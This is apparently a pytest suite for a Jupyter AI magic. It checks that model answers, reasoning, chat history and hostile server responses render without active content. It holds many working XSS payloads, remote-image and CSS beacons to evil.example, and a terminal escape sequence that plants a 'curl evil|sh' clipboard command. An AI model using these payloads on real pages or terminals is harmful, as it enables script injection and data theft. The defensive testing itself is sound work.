"""Model text is untrusted: no payload in an answer, its reasoning, an ``-f html`` answer, a chat
history, a server's error or a model list becomes script, handler, active element, javascript:
URL or remote image — live or static.

Every payload goes through the magic (the emulator streams it, often one character per chunk so
the live view sees half-written tags), and what the user's frontend would get (every Markdown and
HTML text sent to the live widgets, the static bundle) is rendered by real Markdown parsers:
markdown-it-py (VS Code's parser family) and mistune with nbconvert's renderer (nbconvert HTML).
The rendered HTML is then read as a browser would. tests/browser/test_jupyterlab.py runs the same
kind of payloads in JupyterLab itself (marked), live, static and reopened, and in nbconvert HTML.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from IPython.utils.capture import capture_output

from qwen_magic.render.chat import chat_markdown
from qwen_magic.render.safe import plain_text, safe_html, safe_markdown
from qwen_magic.testing import Reply

# ------------------------------------------------------------------------------ payloads
TAGS = [
    '<img src=x onerror="alert(document.domain)">',
    "<script>alert(1)</script>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url(https://evil.example/?css)}</style>",
    '<div style="position:fixed;inset:0;background:red">cover</div>',
    '<form action="https://evil.example/"><button>Log in</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<a href="javascript:alert(1)">click</a>',
    "<x onclick=alert(1)>click</x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "\\<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt; and &#60;script&#62;alert(1)&#60;/script&#62;",
]
LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    "[click](/api/contents)",
    "[click] (javascript:alert(1))",
    "[click]\n(javascript:alert(1))",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "[click][r]\n\n[r]:\n  javascript:alert(1)",
    "[click][r]\n\n[r]: <javascript:alert(1)>",
    "<javascript:alert(1)>",
    '[click](https://ok.example/ "title" onclick="alert(1)")',
]
IMAGES = [
    "![](https://evil.example/?q=secret)",
    "![chart](http://evil.example/c.png)",
    "![x][i]\n\n[i]: https://evil.example/p.png",
    "![i]\n\n[i]: https://evil.example/p.png",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[![x](https://evil.example/a.png)](https://ok.example/)",
]
# Aimed at parsers that disagree about where code starts and ends.
CODE = [
    "```\nunclosed <img src=x onerror=alert(1)>",
    "```\nx\n```~\n<img src=x onerror=alert(1)>\n```",
    "- item\n  ```html\n  <img src=x onerror=alert(1)>\n  ```",
    "> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "    <img src=x onerror=alert(1)>",
    "<div>\n```\n<img src=x onerror=alert(1)>\n```",
    "<style>*{}</style>\n    <javascript:alert(1)>",
    '```x" onmouseover="alert(1)\ncode\n```',
    '- ```x"onclick="alert(1)\n  code\n  ```',
    "$ x `$ y\n<img src=x onerror=alert(1)> `",
    "- a $\n  ```\n  $ <img src=x onerror=alert(1)>\n  ```",
    "\\begin{x}\n```\n\\end{x} <img src=x onerror=alert(1)>\n```",
    "$$\n```\n$$\n<img src=x onerror=alert(1)>\n```",
    "# $\n    $ <img src=x onerror=alert(1)>",
    '<a title="`">` <img src=x onerror=alert(1)>`',
    "\\`<img src=x onerror=alert(1)>`",
    "``<img src=x onerror=alert(1)>`",
    "`[x](javascript:alert(1))`",
    "```mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>]\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `<script>` |",
    ">-\n>   <!--\n>\n>\n>\n>",  # markdown-it-py 4.x raises IndexError on this
]
PAYLOADS = TAGS + LINKS + IMAGES + CODE

ORDINARY = """Here is a **small function**, a [link](https://example.com/docs) and a table:

| x | x² |
|---|----|
| 2 | 4  |

```python
def greet(name: str) -> str:
    return "<b>" + name + "</b>"
```

Math stays math: $0 < x < 1$ and $x^2 \\le 1$. Inline `List<String>` code."""


# ------------------------------------------------------------------------------ a browser's view
SAFE_URL = re.compile(r"(?:https?://|mailto:|#)", re.IGNORECASE)
DATA_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp)[;,]", re.IGNORECASE)
ELEMENTS = {
    *("p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "del"),
    *("s", "sub", "sup", "details", "summary", "img", "span", "div", "input", "small", "b", "i"),
    *("u", "caption", "kbd", "mark", "dl", "dt", "dd", "tfoot", "col", "colgroup", "q", "abbr"),
}
ATTRIBUTES = {"class", "id", "align", "start", "title", "alt", "href", "src", "rel", "width"}
ATTRIBUTES |= {"height", "colspan", "rowspan", "type", "disabled", "checked", "open", "scope"}


class Browser(HTMLParser):
    """What HTML would do once in a page: every element and attribute that could act."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.active.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip()
            if (name, value) == ("style", "white-space:pre-wrap"):
                continue  # ours: the reasoning's <pre> in -f html
            if name not in ATTRIBUTES:
                self.active.append(f"<{tag} {name}={value[:40]!r}>")
            elif name == "href" and not SAFE_URL.match(value):
                self.active.append(f"<{tag} href={value[:40]!r}>")
            elif name == "src" and not DATA_IMAGE.match(value):
                self.active.append(f"<{tag} src={value[:40]!r}>")
        if tag == "input" and dict(attrs).get("type") != "checkbox":
            self.active.append("<input>")

    handle_startendtag = handle_starttag


def active_parts(html: str) -> list[str]:
    browser = Browser()
    browser.feed(html)
    browser.close()
    return browser.active


def rendered(markdown: str) -> dict[str, str]:
    """The HTML that markdown-it (html on, as VS Code) and nbconvert's mistune make of it."""
    from markdown_it import MarkdownIt
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return {"markdown-it": md.render(markdown), "mistune": markdown2html_mistune(markdown)}


def assert_inert(shown: dict[str, str], payload: str) -> None:
    """Nothing in any shown text (mime -> text) can act, whichever parser renders it."""
    for mime, text in shown.items():
        if mime == "text/html":
            htmls = {"html": text}
        elif mime == "text/markdown":
            htmls = rendered(text)
        else:
            continue
        for parser, html in htmls.items():
            bad = active_parts(html)
            assert not bad, f"{payload!r} -> {parser} made {bad} from {text!r}"


# ------------------------------------------------------------------------------ the magic
def shown_texts(cap: Any, comms: Any) -> list[dict[str, str]]:
    """Every Markdown/HTML text the frontend got: each live widget state, then the static bundle."""
    texts: list[dict[str, str]] = []

    def visit(value: Any) -> None:
        if isinstance(value, dict):
            data = value.get("data")
            if isinstance(data, dict) and ("text/markdown" in data or "text/html" in data):
                texts.append({k: v for k, v in data.items() if k in ("text/markdown", "text/html")})
            for item in value.values():
                visit(item)
        elif isinstance(value, list | tuple):
            for item in value:
                visit(item)

    for _kind, message in comms.messages:
        visit(message)
    for output in cap.outputs:
        texts.append({k: v for k, v in output.data.items() if k in ("text/markdown", "text/html")})
    return [shown for shown in texts if shown]


def ask(ip: Any, emulator: Any, reply: Reply, line: str = "--think") -> tuple[list[dict], Any]:
    emulator.queue(reply)
    with capture_output() as cap:
        ip.run_cell_magic("qwen", line, "Repeat exactly what I send.")
    return cap, ip.user_ns["_qwen"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answer_and_reasoning_never_act_live_or_static(ip, emulator, comms, payload) -> None:
    reply = Reply(
        text=f"Sure:\n\n{payload}\n\nDone.", reasoning=f"They sent {payload}", chunks=12, delay=0.01
    )
    cap, result = ask(ip, emulator, reply)
    assert result.text == reply.text and result.reasoning == reply.reasoning  # kept as it came
    texts = shown_texts(cap, comms)
    assert len(texts) > 2  # live pieces and the static output
    for shown in texts:
        assert_inert(shown, payload)
    assert "Done." in cap.outputs[-1].data["text/markdown"]


@pytest.mark.parametrize(
    "payload",
    [
        '<img src=x onerror="alert(1)">',
        "<script>alert(1)</script>",
        "[click](javascript:alert(1))",
        "![](https://evil.example/?q=secret)",
        "```\n<img src=x onerror=alert(1)>\n```\n\n<svg onload=alert(1)>",
    ],
)
def test_payloads_split_into_single_characters(ip, emulator, comms, payload) -> None:
    """Each refresh shows a half-written tag or link: none of them may act either."""
    text = f"Start. {payload} End."
    cap, _ = ask(ip, emulator, Reply(text=text, reasoning=payload, chunks=len(text), delay=0.01))
    texts = shown_texts(cap, comms)
    assert len(texts) >= 3
    for shown in texts:
        assert_inert(shown, payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_prefix_of_a_stream_is_inert(payload) -> None:
    """What the live view would show after each character (tail and frozen pieces)."""
    from qwen_magic.render.live import MarkdownStream

    stream = MarkdownStream(piece=16, budget=0)
    text = f"Intro paragraph.\n\n{payload}\n\nMore text after it.\n\n{payload}"
    seen: set[str] = set()
    for end in range(1, len(text) + 1):
        stream.show(text[:end])
        for child in stream.pieces():
            for output in child.outputs:
                seen.add(output["data"]["text/markdown"])
    for shown in seen:
        assert_inert({"text/markdown": shown}, payload)


HTML_PAYLOADS = [
    *TAGS,
    '<a href="javascript:alert(1)">x</a><a href="data:text/html,x">y</a>',
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<img src=https://evil.example/?q=secret>",
    "<table><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>",
]


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_html_answers_are_sanitized_live_and_static(ip, emulator, comms, payload) -> None:
    text = f"<p>Answer:</p>{payload}<p>end</p>"
    cap, result = ask(
        ip, emulator, Reply(text=text, reasoning=payload, chunks=9, delay=0.01), "-f html"
    )
    assert result.text == text
    texts = shown_texts(cap, comms)
    assert any("text/html" in t for t in texts[:-1]), texts  # the live view shows HTML too
    for shown in texts:
        assert_inert(shown, payload)
    assert "<p>Answer:</p>" in cap.outputs[-1].data["text/html"]


def test_ordinary_html_keeps_its_formatting() -> None:
    html = (
        '<h2>Title</h2><p><b>bold</b> <a href="https://ok.example/">link</a></p>'
        "<table><tr><th>a</th></tr><tr><td>1</td></tr></table><ul><li>x</li></ul>"
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'
    )
    clean = safe_html(html)
    for kept in ("<h2>Title</h2>", "<b>bold</b>", "<th>a</th>", "<li>x</li>", "data:image/png"):
        assert kept in clean
    assert 'rel="noopener noreferrer"' in clean and 'href="https://ok.example/"' in clean


def test_ordinary_markdown_is_left_as_it_is(ip, emulator) -> None:
    """Markdown, math, tables, code and safe links render as before: the text is unchanged."""
    cap, _ = ask(ip, emulator, Reply(text=ORDINARY, reasoning=""), "")
    md = cap.outputs[-1].data["text/markdown"]
    assert ORDINARY in md
    html = rendered(md)["markdown-it"]
    assert '<a href="https://example.com/docs">link</a>' in html
    assert "<strong>small function</strong>" in html and "<td>4</td>" in html
    assert '<pre><code class="language-python">' in html
    assert "&lt;b&gt;" in html  # the tag in the code block is shown as code
    assert safe_markdown(ORDINARY) == ORDINARY
    # a "<" before a letter could open a tag: in math it becomes \lt (MathJax and KaTeX know it)
    assert safe_markdown("so $a<b$ and a<b") == "so $a\\lt b$ and a&lt;b"


def test_links_images_and_tags_are_shown_not_followed() -> None:
    md = safe_markdown(
        "<b>hi</b> [ok](https://ok.example/) [bad](javascript:alert(1)) "
        "![pic](https://evil.example/p.png) ![dot](data:image/png;base64,AAAA)"
    )
    html = rendered(md)["markdown-it"]
    assert "&lt;b&gt;hi&lt;/b&gt;" in html  # the tag as text
    assert '<a href="https://ok.example/">ok</a>' in html
    assert "[bad](javascript:alert(1))" in html  # as text, not a link
    assert '<a href="https://evil.example/p.png">🖼 pic</a>' in html  # a link, not a fetch
    assert '<img src="data:image/png;base64,AAAA" alt="dot"' in html
    # MathJax (nbconvert loads it) makes \href{javascript:…} a link: its backslash is doubled
    assert safe_markdown(r"$\href{javascript:alert(1)}{x}$ $\url{https://ok.example/}$") == (
        r"$\\href{javascript:alert(1)}{x}$ $\url{https://ok.example/}$"
    )


# ------------------------------------------------------------------------------ chats
def test_chat_history_never_acts(ip, emulator) -> None:
    for payload in (TAGS[0], LINKS[0], IMAGES[0], CODE[2]):
        emulator.queue(Reply(text=f"A {payload}", reasoning=f"R {payload}"))
        with capture_output():
            ip.run_cell_magic("qwen", "--think -c hostile", f"Q {payload}")
    with capture_output():
        history = ip.run_line_magic("qwencmd", "history hostile")
    md = chat_markdown(history)
    assert md.count("<details><summary>Thinking</summary>") == 4
    assert_inert({"text/markdown": md}, "chat history")


# ------------------------------------------------------------------------------ hostile server
HOSTILE = "<img src=x onerror=alert(1)> [x](javascript:alert(1)) ` <script>alert(2)</script>"


class HostileServer(BaseHTTPRequestHandler):
    """An OpenAI-compatible endpoint whose errors and model ids carry payloads."""

    def do_GET(self) -> None:  # noqa: N802 - stdlib name
        models = [{"id": HOSTILE, "object": "model", "owned_by": "<svg onload=alert(1)>"}]
        models.append({"id": "qwen-plus|`x`|**bold**", "object": "model", "owned_by": "x"})
        self._send(200, {"object": "list", "data": models})

    def do_POST(self) -> None:  # noqa: N802
        self.rfile.read(int(self.headers.get("content-length") or 0))
        error = {"message": HOSTILE, "code": "<b onclick=alert(1)>x</b>", "type": HOSTILE}
        self._send(400, {"error": error, "request_id": "`<img src=x onerror=alert(3)>`"})

    def _send(self, status: int, body: dict[str, Any]) -> None:
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("x-request-id", "<svg onload=alert(4)>")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        pass


@pytest.fixture
def hostile_server(magics: Any) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileServer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    magics.use_emulator(None)
    magics.send_key_to_base_url = True
    magics.max_retries = 0
    magics.base_url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    try:
        yield magics.base_url
    finally:
        server.shutdown()
        server.server_close()


def test_server_error_messages_never_act(ip, hostile_server, comms) -> None:
    with capture_output() as cap:
        ip.run_cell_magic("qwen", "--no-think", "Hi")
    result = ip.user_ns["_qwen"]
    assert result.error is not None
    md = cap.outputs[-1].data["text/markdown"]
    assert "alert(1)" in md  # the server's message is shown, as text
    for shown in shown_texts(cap, comms):
        assert_inert(shown, "server error")


def test_model_list_from_a_server_never_acts(ip, hostile_server) -> None:
    with capture_output():
        table = ip.run_line_magic("qwencmd", "models")
    md = table._repr_markdown_()
    assert_inert({"text/markdown": md}, "models table")
    html = rendered(md)["markdown-it"]
    assert html.count("<tr>") == 3  # a header and two rows: a "|" in an id splits no cell
    assert "qwen-plus|`x`|**bold**" in html  # shown literally
    assert "javascript:alert(1)" in html and "<a " not in html


# ------------------------------------------------------------------------------ terminal
def test_terminal_text_has_no_control_sequences() -> None:
    hostile = (
        "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07 title\x1b]0;pwned\x1b\\ red\x1b[31m clear\x1b[2J"
        "\x9b31m bell\x07 back\x08 nul\x00 tab\tnew\nline"
    )
    clean = plain_text(hostile)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", clean), repr(clean)
    assert clean.startswith("ok") and "tab\tnew\nline" in clean and "title" in clean


# ------------------------------------------------------------------------------ random mixes
PIECES = [
    *("```", "````", "~~~", "```html", "``` x`y", "```mermaid", '```x"onclick="qx(1)', "    "),
    *("  ", "- ", "1. ", "> ", "`", "``", "\\", "$", "$$", "\\\\(", "\\\\)", "\\\\[", "\\\\]"),
    *("\\begin{x}", "\\end{x}", "{", "}", "| a | b |\n|---|---|\n| ", "*", "_", "[", "]", "("),
    *(")", "!", "&lt;", "&#60;", "<", "<!--", "-->", "<?", "?>", "<![CDATA[", "]]>", "@@0@@"),
    *("\t", "text", "x<y", "a < b", "#", "---", "==="),
]
JOINTS = ["", " ", "\n", "\n\n", "\n  ", "\n    ", "\n> ", "\n- "]


def random_mixes(count: int, seed: int) -> list[str]:
    import random

    rng = random.Random(seed)
    docs = []
    for _ in range(count):
        parts = []
        for _ in range(rng.randint(2, 16)):
            parts.append(rng.choice(PAYLOADS if rng.random() < 0.35 else PIECES))
            parts.append(rng.choice(JOINTS))
        docs.append("".join(parts))
    return docs


def test_random_mixes_of_payloads_and_markdown_structure_are_inert() -> None:
    """Payloads cut into fences, lists, quotes, math and code spans, as the static output shows
    them (the reasoning quoted inside <details>): a seeded sample."""
    from qwen_magic.render.static import to_markdown
    from qwen_magic.result import Result

    docs = random_mixes(400, seed=9)
    for text, reasoning in zip(docs[::2], docs[1::2], strict=True):
        md = to_markdown(Result(text=text, reasoning=reasoning, model="m", api="chat"))
        assert_inert({"text/markdown": md}, text)
